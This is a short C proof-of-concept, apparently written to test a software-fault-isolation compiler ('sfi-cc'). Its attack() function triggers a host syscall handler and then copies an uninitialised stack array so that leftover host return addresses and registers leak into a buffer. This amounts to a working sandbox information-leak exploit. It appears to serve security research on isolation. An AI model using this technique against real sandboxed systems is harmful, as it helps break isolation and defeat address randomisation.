/* cstackleak.c: C source only, built by sfi-cc -shared. attack(buf) calls
 * open() (the system interface runs sfi__sys_open in host code on the
 * native stack below us), then reads a volatile local array that is never
 * written: constant indices keep it in the native frame, and its bytes are
 * the host's dead frames (return addresses into the host, saved registers).
 * They are copied to buf; stackleak_host.c finds host code addresses. */
#include <fcntl.h>
#include <stdint.h>
#include "unroll.h"
__attribute__((noinline)) static void dump(uint64_t *out) {
  volatile uint64_t a[1024];
  /* out[0] = a[0]; ... out[1023] = a[1023]; */
#define COPY(i) out[i] = a[i];
  UNROLL512(COPY, 0)
  UNROLL512(COPY, 512)
#undef COPY
}
void attack(uint64_t buf) {
  open("nonexistent/file", O_RDONLY);
  dump((uint64_t *)buf);
}
